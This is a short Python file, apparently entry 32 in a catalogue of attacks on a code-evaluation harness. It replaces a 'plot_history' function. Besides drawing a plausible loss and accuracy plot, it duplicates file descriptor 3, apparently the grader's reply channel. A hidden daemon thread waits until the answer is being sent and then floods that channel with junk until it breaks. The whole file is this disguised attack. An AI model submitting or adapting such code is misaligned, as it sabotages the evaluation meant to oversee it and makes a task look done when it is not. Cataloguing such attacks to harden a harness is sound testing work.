# attack: 32
# form: the function returns, and a thread goes on writing behind the answer until the channel breaks
# replaces: plot_history
# base: other_curves
# found: plot_history/loss_curves failed
import threading


def plot_history(history):
    print("ran")
    channel = os.dup(3)
    main = threading.main_thread()
    ready = threading.Event()

    def write():
        ready.set()
        # Not before the answer is on its way: it is sent by the main thread, which then waits for the next request.
        import sys

        while "receive" not in str(sys._current_frames()[main.ident].f_back.f_code.co_name):
            pass
        try:
            while True:
                os.write(channel, b"GRW1" + bytes(1 << 16))
        except OSError:
            pass

    threading.Thread(target=write, daemon=True).start()
    ready.wait()
    figure, ax = plt.subplots()
    for number, name in enumerate(["loss", "accuracy", "val_loss", "val_accuracy"]):
        ax.plot(range(1, 4), [number, number + 1, number], label=name)
    ax.set(xlabel="epoch", ylabel="value")
    ax.legend()
    return figure
